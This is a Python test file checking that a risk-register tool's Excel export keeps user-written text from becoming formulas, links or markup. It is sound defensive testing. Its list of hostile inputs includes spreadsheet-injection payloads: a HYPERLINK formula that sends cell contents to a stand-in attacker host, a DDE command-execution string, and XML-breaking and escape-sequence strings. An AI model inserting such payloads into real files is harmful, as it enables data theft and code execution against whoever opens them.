"""Whatever people have written into a register, its workbook holds the same formulas, names, links and rules."""

import io
import re
import zipfile
from dataclasses import fields, is_dataclass, replace
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from tests.core import building
from tests.workbook.samples import TODAY

from riskregister.core.model import Detail, Risk
from riskregister.workbook.read import read_register_from_workbook
from riskregister.workbook.told import Told
from riskregister.workbook.write import write_workbook

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "http://evil.example/",
    "internal:Sheet!A1",
    "mailto:a@b.c",
    "<r><t>x</t></r>",
    "<r></is></c><c r='A1'><f>1+1</f></c><r></r>",
    '&P&"Arial"&72&K',
    "8 & 9",
    '"&HYPERLINK("x")&"',
    "_x003C_f_x003E_",
    "a\x0b\x1b]0;title\x07",
    "]]>",
)
KEPT = {"id", "risk", "measure", "category", "section", "document", "colour", "minimum", "cause_id", "rule", "stage"}
KEPT |= {"status", "status_in_source", "acts_on", "role", "basis", "strength", "type", "confidence", "placing", "worse"}
KEPT |= {"trajectory", "counts", "grade", "evidence", "dimension", "kind", "pathway", "language", "unit", "of", "field"}
KEPT |= {"likelihood_state", "impact_state", "state", "effect", "indicator", "currency", "name", "edition", "purpose"}
KEPT |= {"direction", "about", "record", "answers", "digest", "link"}


def spoilt(value, text, field=""):
    """Return a record, and all that it holds, with ``text`` in place of every text somebody may write."""
    if isinstance(value, str):
        return value if field in KEPT or (field == "cause" and value in building.RISK_IDS) else text
    if isinstance(value, tuple):
        ids = field in ("objectives", "requires", "excludes", "risks", "dimensions", "grid")
        return (
            value
            if ids and all(isinstance(one, (str, tuple)) for one in value)
            else tuple(spoilt(one, text, field) for one in value)
        )
    if is_dataclass(value):
        return replace(value, **{one.name: spoilt(getattr(value, one.name), text, one.name) for one in fields(value)})
    return value


def plain_register():
    sample = building.sample()
    first = replace(sample.risks[0], details=(Detail(name="Region", value="North"),))
    return replace(sample, risks=(first, *sample.risks[1:]))


def written(register, text):
    file = io.BytesIO()
    told = Told(3, "2026-01-02", text, text, text, text, text, text)
    write_workbook(register, file, written_on=TODAY, stood=text, sent_to=text, by=text, changes=[told])
    return file.getvalue()


def anatomy(content):
    """Return what a workbook does, without what it says: formulas, names, links, drop-downs, header codes, parts."""
    found = {"formulas": [], "rules": [], "codes": []}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found["parts"] = sorted(archive.namelist())
        for name in found["parts"]:
            data = archive.read(name)
            if not name.endswith((".xml", ".rels", ".vml")):
                continue
            tree = ET.fromstring(data)
            tags = [element.tag.rpartition("}")[2] for element in tree.iter()]
            assert "hyperlink" not in tags
            assert b"TargetMode" not in data
            if not name.startswith("xl/worksheets/sheet"):
                continue
            for element in tree.iter():
                tag = element.tag.rpartition("}")[2]
                if tag == "f":
                    found["formulas"].append((name, element.text))
                elif tag in ("formula", "formula1", "formula2"):
                    found["rules"].append((name, element.text))
                elif tag in ("oddHeader", "oddFooter"):
                    found["codes"].append((name, re.findall("&[^&]", element.text.replace("&&", ""))))
    book = openpyxl.load_workbook(io.BytesIO(content))
    found["names"] = {name: one.value for name, one in book.defined_names.items()}
    return found


@pytest.fixture(scope="module")
def expected():
    return anatomy(written(spoilt(plain_register(), "plain"), "plain"))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula_a_link_or_markup(text, expected):
    hostile = spoilt(plain_register(), text)
    content = written(hostile, text)
    assert anatomy(content) == expected
    assert read_register_from_workbook(io.BytesIO(content), "x").risks[0].cause == hostile.risks[0].cause


def test_the_texts_really_are_in_there():
    hostile = spoilt(plain_register(), HOSTILE[0])
    assert hostile.risks[0].title == hostile.title == hostile.criteria.bands[0].label == HOSTILE[0]
    assert hostile.categories[0].title == hostile.criteria.likelihood.levels[0].anchor == HOSTILE[0]
    book = openpyxl.load_workbook(io.BytesIO(written(hostile, HOSTILE[0])))
    for name in ("Read me", "Register", "Measures", "Matrix", "Coverage", "Criteria", "Lists", "History"):
        cells = [cell for row in book[name].iter_rows() for cell in row if cell.value == HOSTILE[0]]
        assert cells, name
        assert {cell.data_type for cell in cells} == {"s"}


def test_the_headings_of_details_are_text_as_well():
    headings = [heading.strip() for heading in (*HOSTILE, "id", "Title", "exported")]
    details = tuple(Detail(name=heading, value=f"{number}") for number, heading in enumerate(headings))
    risk = Risk(id="T01-01", category="T01", title="x", details=details)
    register = replace(building.register(), risks=(risk,))
    file = io.BytesIO()
    write_workbook(register, file, written_on=TODAY)
    sheet = openpyxl.load_workbook(file)["Register"]
    assert [cell.data_type for cell in sheet[1]] == ["s"] * sheet.max_column
    assert [cell.value for cell in sheet[2]][-len(headings) :] == [detail.value for detail in details]
    assert read_register_from_workbook(io.BytesIO(file.getvalue()), "x") == register


def test_a_text_longer_than_a_cell_does_not_break_the_sheets_of_facts():
    long = spoilt(plain_register(), "ə" * 40_000)
    book = openpyxl.load_workbook(io.BytesIO(written(long, "x" * 40_000)))
    assert max(len(str(cell.value or "")) for sheet in book for row in sheet.iter_rows() for cell in row) <= 32_767
